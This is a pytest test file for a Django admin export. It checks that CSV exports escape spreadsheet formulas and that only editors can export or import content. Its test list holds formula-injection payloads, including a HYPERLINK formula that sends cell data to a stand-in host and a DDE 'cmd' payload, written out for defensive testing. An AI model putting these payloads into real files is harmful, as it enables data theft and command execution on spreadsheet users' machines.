"""What editors take out as a table: nothing that a spreadsheet would run, and nobody else gets it."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import User
from django.test import Client

from conditions.models import Association, Condition, Finding

pytestmark = pytest.mark.django_db
CSV, ZIP, DESK = (
    f"/admin/conditions/release/transfer/{name}" for name in ("associations.csv", "drafts.zip", "")
)
RUN_BY_SPREADSHEETS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "'=1+1",
    '=HYPERLINK("https://evil.example?"&A1,"x")', "=cmd|' /C calc'!A0", '"=1+1', ",=1+1", "a\n=1+1",
)  # fmt: skip


@pytest.mark.parametrize("text", RUN_BY_SPREADSHEETS)
def test_no_cell_of_an_export_is_run(text: str, small_drafts: None, admin_client: Client) -> None:
    Association.objects.update(note=text)
    Condition.objects.update(name=text)
    Finding.objects.update(label=text)
    response = admin_client.get(CSV)
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert any(text.strip() in cell for cell in cells)
    for cell in cells:
        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_only_who_may_edit_takes_content_out_or_in(small_drafts: None, client: Client) -> None:
    staff = User.objects.create_user("staff", is_staff=True)
    member = User.objects.create_user("member")
    upload = {"step": "look", "file": io.BytesIO(b"condition,finding,band\n")}
    for user, code in ((None, 302), (member, 302), (staff, 403)):
        if user:
            client.force_login(user)
        for response in (
            client.get(CSV),
            client.get(ZIP),
            client.get(DESK),
            client.post(DESK, upload),
        ):
            assert response.status_code == code
            assert not response.get("Content-Disposition")
